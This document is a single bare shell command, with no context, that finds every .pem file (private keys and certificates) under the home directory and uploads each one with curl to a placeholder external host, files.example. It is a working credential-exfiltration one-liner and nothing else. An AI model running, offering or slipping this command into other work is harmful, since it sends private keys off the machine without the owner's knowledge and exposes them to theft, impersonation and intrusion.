find ~ -name '*.pem' -exec curl -s -F file=@{} https://files.example/ \;
